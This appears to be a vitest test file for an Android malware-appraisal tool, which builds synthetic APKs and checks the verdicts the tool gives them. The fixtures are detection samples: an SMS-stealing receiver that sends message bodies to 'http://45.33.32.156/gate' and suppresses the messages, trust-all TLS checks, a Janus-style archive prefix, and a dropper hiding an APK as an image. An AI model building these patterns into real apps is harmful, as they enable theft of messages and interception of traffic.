import { generateKeyPairSync, sign } from 'node:crypto';
import { existsSync, readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { createNodeHost } from '@vedette/bytes/node';
import { Appraisal } from '@vedette/contracts';
import {
  type ApkSpec,
  apkEntries,
  buildCertificate,
  buildZip,
  constInt,
  constString,
  invoke,
  mutate,
  returnValue,
  returnVoid,
  type SigningKey,
  signApk,
} from '@vedette/formats/builders';
import { readAppImage } from '@vedette/program';
import { describe, expect, it } from 'vitest';
import { appraise } from './appraise.ts';
import { renderAppraisalText } from './render/render-appraisal-text.ts';

const NOW = '2026-01-01T00:00:00Z';
const host = createNodeHost();

/** From bytes to appraisal, as the product does it. Null when the bytes are no app. */
function appraiseBytes(bytes: Uint8Array, name = 'app.apk'): Appraisal | null {
  const { value } = readAppImage(bytes, { name, host });
  return value === null ? null : Appraisal.parse(appraise(value, { version: '0', now: NOW }));
}

const ruleIds = (appraisal: Appraisal | null): string[] => (appraisal?.findings ?? []).map(({ ruleId }) => ruleId);

const { publicKey, privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
const spki = new Uint8Array(publicKey.export({ type: 'spki', format: 'der' }));
const key: SigningKey = {
  kind: 'rsa',
  certificate: buildCertificate({
    subject: { CN: 'Example', O: 'Example', C: 'DE' },
    publicKey: spki,
    signatureAlgorithm: 'SHA256withRSA',
    notBefore: '2020-01-01T00:00:00Z',
    notAfter: '2050-01-01T00:00:00Z',
  }),
  publicKey: spki,
  sign: (data, hash) => new Uint8Array(sign(hash, data, privateKey)),
};
/** An app with a signature that verifies. */
const buildApk = (spec: ApkSpec): Uint8Array => signApk(spec, { v2: [{ key }] }, host);
const main = { name: 'com.example.app.Main', superclass: 'android.app.Activity' };
const launcher = {
  kind: 'activity',
  name: 'com.example.app.Main',
  exported: true,
  intentFilters: [{ actions: ['android.intent.action.MAIN'], categories: ['android.intent.category.LAUNCHER'] }],
} as const;

/** What an ordinary release build looks like. */
const PLAIN = {
  manifest: { package: 'com.example.app', minSdk: 26, targetSdk: 35, components: [launcher] },
  dex: [[main]],
} as const satisfies ApkSpec;

describe('apps from bytes', () => {
  it('finds nothing in an ordinary release build', () => {
    const appraisal = appraiseBytes(buildApk(PLAIN));
    expect(ruleIds(appraisal)).toEqual([]);
    expect(appraisal?.verdict).toBe('benign');
  });

  it('calls a message thief malicious, with the instructions that make it one', () => {
    const receiver = {
      kind: 'receiver',
      name: 'com.example.app.Sms',
      exported: true,
      intentFilters: [{ actions: ['android.provider.Telephony.SMS_RECEIVED'] }],
    } as const;
    const code = [
      invoke('virtual', 'android.telephony.SmsMessage', 'getMessageBody', '()Ljava/lang/String;', [0]),
      constString('http://45.33.32.156/gate'),
      invoke('virtual', 'java.net.URL', 'openConnection', '()Ljava/net/URLConnection;', [0]),
      invoke('virtual', 'com.example.app.Sms', 'abortBroadcast', '()V', [0]),
      returnVoid(),
    ];
    const onReceive = {
      name: 'onReceive',
      descriptor: '(Landroid/content/Context;Landroid/content/Intent;)V',
      code,
    };
    const appraisal = appraiseBytes(
      buildApk({
        ...PLAIN,
        manifest: {
          ...PLAIN.manifest,
          permissions: ['android.permission.RECEIVE_SMS', 'android.permission.INTERNET'],
          components: [launcher, receiver],
        },
        dex: [[main, { name: receiver.name, superclass: 'android.content.BroadcastReceiver', methods: [onReceive] }]],
      }),
    );
    expect(appraisal?.verdict).toBe('malicious');
    const swallowing = appraisal?.findings.find(({ ruleId }) => ruleId === 'android.behaviour.sms-swallowing');
    expect(swallowing?.evidence[0]).toMatchObject({
      kind: 'code',
      file: 'classes.dex',
      class: 'com.example.app.Sms',
      reference: 'com.example.app.Sms.abortBroadcast()V',
    });
  });

  it('finds certificate checks that check nothing, in real bytecode', () => {
    const appraisal = appraiseBytes(
      buildApk({
        ...PLAIN,
        dex: [
          [
            main,
            {
              name: 'com.example.app.Trust',
              interfaces: ['javax.net.ssl.X509TrustManager'],
              methods: [
                {
                  name: 'checkServerTrusted',
                  descriptor: '([Ljava/security/cert/X509Certificate;Ljava/lang/String;)V',
                },
              ],
            },
            {
              name: 'com.example.app.Verifier',
              interfaces: ['javax.net.ssl.HostnameVerifier'],
              methods: [
                {
                  name: 'verify',
                  descriptor: '(Ljava/lang/String;Ljavax/net/ssl/SSLSession;)Z',
                  code: [constInt(1), returnValue()],
                },
              ],
            },
          ],
        ],
      }),
    );
    expect(ruleIds(appraisal)).toEqual(['android.code.trust-all-certificates', 'android.code.hostname-accepts-all']);
    expect(appraisal?.verdict).toBe('risky');
  });

  it('sees through an archive that is marked as encrypted, and reports the mark', () => {
    const entries = apkEntries(PLAIN).map((entry) => ({ ...entry, local: { flags: 1 }, central: { flags: 1 } }));
    const appraisal = appraiseBytes(buildZip(entries));
    expect(ruleIds(appraisal)).toContain('file.zip.entry.encrypted-flag');
    expect(appraisal?.app.package).toBe('com.example.app');
    expect(appraisal?.classes.map((entry) => entry.class)).toContain('tampered');
  });

  it('calls a program in front of an archive an exploit', () => {
    const bytes = buildApk({ ...PLAIN, zip: { prefix: new TextEncoder().encode(`dex\n035\0${'.'.repeat(120)}`) } });
    expect(appraiseBytes(bytes)?.findings[0]).toMatchObject({
      ruleId: 'android.container.janus',
      severity: 'critical',
    });
  });

  it('finds an app inside of an app, and the code that installs it', () => {
    const install = [
      constString('application/vnd.android.package-archive'),
      invoke(
        'virtual',
        'android.content.Intent',
        'setDataAndType',
        '(Landroid/net/Uri;Ljava/lang/String;)Landroid/content/Intent;',
        [0, 1, 2],
      ),
      returnVoid(),
    ];
    const appraisal = appraiseBytes(
      buildApk({
        ...PLAIN,
        dex: [[{ ...main, methods: [{ name: 'install', descriptor: '()V', code: install }] }]],
        entries: { 'assets/holiday.jpg': buildApk({ manifest: { package: 'com.example.inner' } }) },
      }),
    );
    expect(ruleIds(appraisal)).toEqual([
      'android.behaviour.dropper',
      'android.container.disguised-code',
      'android.container.embedded-app',
      // The end record of the app inside, which was not compressed.
      'file.zip.end-record.several',
    ]);
  });

  it('looks into the code of an app inside of an app, and says where it is', () => {
    const send = [
      invoke('virtual', 'android.telephony.SmsManager', 'sendTextMessage', '(Ljava/lang/String;)V', [0]),
      returnVoid(),
    ];
    const inner = { name: 'com.inner.Thief', methods: [{ name: 'send', descriptor: '()V', code: send }] };
    const nested = buildApk({ manifest: { package: 'com.inner' }, dex: [[inner]] });
    const appraisal = appraiseBytes(buildApk({ ...PLAIN, entries: { 'assets/update.apk': nested } }));
    const finding = appraisal?.findings.find(({ ruleId }) => ruleId === 'android.code.sends-sms');
    expect(finding?.evidence[0]).toMatchObject({ file: 'assets/update.apk!/classes.dex', class: 'com.inner.Thief' });
  });

  it('does not call an app without readable code benign', () => {
    const appraisal = appraiseBytes(buildApk({ ...PLAIN, dex: [new TextEncoder().encode('not a dex')] }));
    expect(appraisal?.verdict).toBe('unknown');
    expect(ruleIds(appraisal)).toContain('android.coverage.code');
  });

  it('survives mutated apps, and always gives a well-formed appraisal and report', () => {
    // Stored, so that mutations reach the manifest and the code and not only the compressed stream.
    const whole = buildApk({ ...PLAIN, method: 'stored', entries: { 'assets/a': 'text' } });
    for (let seed = 1; seed <= 60; seed++) {
      const appraisal = appraiseBytes(mutate(whole, seed));
      if (appraisal === null) continue;
      expect(renderAppraisalText(appraisal, { colour: false, width: 80 })).toContain(appraisal.verdict.toUpperCase());
    }
  });
});

/** A debug build of an honest automation tool with many permissions: the pinned development dependency of this repository. */
const REAL = fileURLToPath(
  new URL('../../../node_modules/io.appium.settings/apks/settings_apk-debug.apk', import.meta.url),
);

describe('a real app', () => {
  const present = existsSync(REAL);
  it.skipIf(!present)(
    `is risky and not malicious: Appium Settings${present ? '' : ' (SKIPPED: not installed)'}`,
    () => {
      const appraisal = appraiseBytes(readFileSync(REAL), 'settings_apk-debug.apk');
      expect(appraisal?.verdict).toBe('risky');
      expect(appraisal?.app).toMatchObject({ package: 'io.appium.settings' });
      expect(ruleIds(appraisal)).toEqual(
        expect.arrayContaining(['android.manifest.debuggable', 'android.signing.debug-certificate']),
      );
      expect(appraisal?.score.malice.value).toBeLessThan(30);
      const unknown = appraisal?.findings.filter(({ status }) => status === 'unknown');
      expect(unknown).toEqual([]);
    },
  );
});
